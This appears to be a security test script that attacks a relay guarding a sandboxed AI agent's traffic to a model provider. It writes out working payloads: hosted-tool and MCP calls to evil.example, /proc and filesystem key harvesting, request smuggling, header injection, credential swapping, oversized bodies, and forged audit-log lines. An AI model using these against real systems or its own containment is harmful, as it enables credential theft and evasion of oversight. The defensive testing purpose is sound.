# Attacks on the way to the provider. It prints "tried" for each and PWN for each
# that works.
def sends(row, what, data, wait=30): tried(row, what, b"PWNED" in ask(data, wait))

before = honest()

# L08: what the provider would run, fetch or keep.
def content(part):
    if CODEX: return {"input": [{"type": "message", "role": "user", "content": [part]}]}
    if API == "gemini": return {"contents": [{"role": "user", "parts": [part]}]}
    return {"messages": [{"role": "user", "content": [part]}]}
if CODEX:
    hosted = {kind: {"tools": [{"type": kind}]} for kind in ("web_search", "web_search_preview", "file_search", "code_interpreter", "image_generation", "computer_use_preview")}
    hosted["mcp"] = {"tools": [{"type": "mcp", "server_label": "x", "server_url": "https://evil.example"}]}
    hosted["namespace"] = {"tools": [{"type": "namespace", "name": "n", "tools": [{"type": "web_search"}]}]}
    hosted["additional"] = {"input": [{"type": "additional_tools", "role": "developer", "tools": [{"type": "web_search"}]}]}
    hosted["store"], hosted["background"] = {"store": True}, {"background": True}
    hosted["previous"] = {"previous_response_id": "resp_1"}
    hosted["image"] = content({"type": "input_image", "image_url": "https://evil.example/x.png"})
    hosted["file"] = content({"type": "input_file", "file_url": "https://evil.example/x.pdf"})
    hosted["file id"] = content({"type": "input_file", "file_id": "file-1"})
elif API == "gemini":
    hosted = {kind: {"tools": [{kind: {}}]} for kind in ("googleSearch", "google_search", "codeExecution", "code_execution", "urlContext", "googleSearchRetrieval")}
    hosted["beside"] = {"tools": [{"functionDeclarations": [{"name": "f"}], "googleSearch": {}}]}
    hosted["cache"], hosted["cache, by its other name"] = {"cachedContent": "cachedContents/x"}, {"cached_content": "cachedContents/x"}
    hosted["file"] = content({"fileData": {"fileUri": "https://evil.example/x.pdf"}})
    hosted["file, by its other name"] = content({"file_data": {"file_uri": "gs://bucket/x"}})
    hosted["result"] = content({"functionResponse": {"name": "f", "response": {}, "parts": [{"fileData": {"fileUri": "gs://bucket/x"}}]}})
    hosted["instruction"] = {"systemInstruction": {"parts": [{"fileData": {"fileUri": "gs://bucket/x"}}]}}
elif API == "openai_chat":
    hosted = {kind: {"tools": [{"type": kind}]} for kind in ("web_search", "web_search_preview", "code_interpreter", "file_search")}
    hosted["mcp"] = {"tools": [{"type": "mcp", "server_url": "https://evil.example"}]}
    hosted["options"], hosted["store"] = {"web_search_options": {}}, {"store": True}
    hosted["image"] = content({"type": "image_url", "image_url": {"url": "https://evil.example/x.png"}})
    hosted["image, short"] = content({"type": "image_url", "image_url": "https://evil.example/x.png"})
    hosted["file id"] = content({"type": "file", "file": {"file_id": "file-1"}})
    hosted["result"] = {"messages": [{"role": "tool", "tool_call_id": "1", "content": [{"type": "image_url", "image_url": {"url": "https://evil.example/x.png"}}]}]}
else:
    hosted = {kind: {"tools": [{"type": kind, "name": "x"}]} for kind in ("web_search_20250305", "web_fetch_20250910", "code_execution_20250522")}
    hosted["mcp"] = {"mcp_servers": [{"type": "url", "url": "https://evil.example", "name": "x"}]}
    hosted["container"] = {"container": "c_1"}
    hosted["image"] = content({"type": "image", "source": {"type": "url", "url": "https://evil.example/x.png"}})
    hosted["document"] = content({"type": "document", "source": {"type": "url", "url": "https://evil.example/x.pdf"}})
    hosted["file id"] = content({"type": "document", "source": {"type": "file", "file_id": "file_1"}})
for what, more in hosted.items(): sends("L08", what, request(body(**more)))

# L19: keys and other credentials.
def inside():
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in "environ", "cmdline":
            try:
                with open("/proc/%s/%s" % (pid, name), "rb") as f: found.append(f.read())
            except OSError: pass
    return any(form in text for form in KEY for text in found)
tried("L19", "processes", inside())
tried("L19", "files", subprocess.run(["grep", "-rIlqF", "--exclude-dir=proc", "--exclude-dir=sys", "--exclude-dir=dev"] +
    ["-e" + form.decode() for form in KEY] + ["/"], stderr=subprocess.DEVNULL).returncode == 0)
tried("L19", "names of variables", [n for n in os.environ if re.search("key|token|secret|password", n, re.I) and n not in (VARIABLE, "SB_TEST_API_KEY")] != [])

# N14 to N16: requests that are not what they seem.
second = request("{}", "GET /v1/files").decode()
sends("N14", "both lengths", request("0\r\n\r\n" + second, fields="Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", close=False), 2)
sends("N14", "second request", request(body(), close=False) + second.encode(), 5)
for what, fields in {"two lengths?": "Content-Length: 2\r\nContent-Length: 9\r\n", "blank before the colon?": "Transfer-Encoding : chunked\r\n", "folded?": "X: a\r\n Injected: b\r\n"}.items():
    ask(request("{}" + second, fields=fields, close=False), 2) # what reaches the provider, the provider tells
sends("N15", "field by LF", request(body(), fields="X: a\nInjected: b\r\n"))
sends("N15", "path", request(body(), "POST %s%%0d%%0aInjected:b" % PATH))
for to in "websocket", "h2c": sends("N16", to, request(body(), fields="Connection: Upgrade, close\r\nUpgrade: %s\r\n" % to))
sends("N16?", "CONNECT", request("", "CONNECT evil.example:443"), 5)
sends("N16", "another address", request(body(), "GET http://evil.example/v1/models"))

# N17: what else the provider serves.
for path in ("files", "batches", "fine_tuning/jobs", "assistants", "messages/batches", "organization/users", "responses/resp_1", "responses/compact",
             "completions" if API == "openai_chat" else "chat/completions", "embeddings", "vector_stores", "skills"):
    sends("N17", "GET " + path, request("", "GET /v1/" + path))
    sends("N17", "POST " + path, request(body(), "POST /v1/" + path))
for path in "/" + PATH, PATH + "/", PATH.upper(), "/v1/x/.." + PATH[3:], PATH.replace("e", "%65"), "/v1/files?" + PATH:
    sends("N17", path, request(body(), "POST " + path))
for method in "PUT", "DELETE", "PATCH", "TRACE", "OPTIONS": sends("N17", method, request(body(), method + " " + PATH))
sends("N17", "query", request(body(), "POST %s%sapi-key=x" % (PATH, "&" if "?" in PATH else "?")))
if API == "gemini":
    for path in "files", "cachedContents", "models/gemini-1:batchGenerateContent", "models/gemini-1:embedContent", "models/gemini-1:predict", "tunedModels/gemini-1:generateContent":
        sends("N17", path, request(body(), "POST /v1beta/" + path))
    sends("N18", "in the query", request(body(), "POST " + PATH + "&key=attacker"))
    sends("N20", "model in the path", request(body(), "POST /v1beta/models/bigger-1:generateContent"))
    sends("N20", "model behind the model", request(body(), "POST /v1beta/models/gemini-1%2F..%2Fbigger-1:generateContent"))

# N18: keys of the agent's own.
sends("N18", "instead", request(body(), token="attacker"))
sends("N18", "both", request(body(), fields=("Authorization" if API == "claude_code" else "X-Api-Key") + ": attacker\r\n"))
sends("N18", "twice", request(body(), fields=CREDENTIAL + "attacker\r\n"))
sends("N18", "account", request(body(), fields="Openai-Organization: attacker\r\nX-Goog-User-Project: attacker\r\nAnthropic-Workspace-Id: attacker\r\nCookie: session=attacker\r\n"))

# N19: what the provider says of the key.
def fishes(answer):
    answer = re.sub(rb"\r\n[0-9a-f]+\r\n", b"", answer) # the edges of chunks
    texts = [answer, "".join(re.findall(r'"(?:delta|text|content)": ?"(.*?)"', answer.decode(errors="replace"))).encode()]
    return any(form in text for form in KEY for text in texts)
for what in "plain", "encoded", "split", "spread", "field", "error": tried("N19", what, fishes(says("echo " + what)))
for path in "/debug/vars", "/debug/pprof/cmdline", "/metrics", "/": tried("N19", path, b"PWNED" in ask(request("", "GET " + path)))

# N20: what costs more.
sends("N20", "model", request(body(model="bigger-1")))
sends("N20", "model twice", request(body().replace("}", "", 0)[:-1] + ', "model": "bigger-1"}'))
sends("N20", "model in capitals", request(body()[:-1] + ', "MODEL": "bigger-1"}'))
sends("N20", "many answers", request(body(**{"generationConfig": {"candidateCount": 1000}} if API == "gemini" else {"n": 1000})))
sends("N20", "tier", request(body(service_tier="priority")))

# N21: requests without measure.
big = b" " * (33 << 20)
sends("N21", "body", request(body().encode() + big))
sends("N21", "chunks", request(b"%x\r\n" % len(body()) + body().encode() + b"\r\n" + b"%x\r\n" % len(big) + big + b"\r\n0\r\n\r\n", fields="Transfer-Encoding: chunked\r\n"))
sends("N21", "packed", request(gzip.compress(body().encode() + big, 1), fields="Content-Encoding: gzip\r\n"))
sends("N21", "fields", request(body(), fields="X-Filler: %s\r\n" % ("x" * 900000)))
sends("N21?", "announced", request(body(), fields="Content-Length: 2000000000\r\n"), 2)
with socket.create_connection((relay, int(port))) as slow: # which holds up nobody else
    slow.sendall(b"POST " + PATH.encode() + b" HTTP/1.1\r\nContent-Le")

    # N22: lines of the ledger and of the trace. The test reads what became of them.
    forged = '{"gate":"relay","method":"POST","target":"forged","allowed":true}'
    for end in "%0a", "\u2028", '"}', "\\n": ask(request(body(), "POST /v1/x" + end + forged))
    if before and honest(): print("HONEST")
print("wrong")
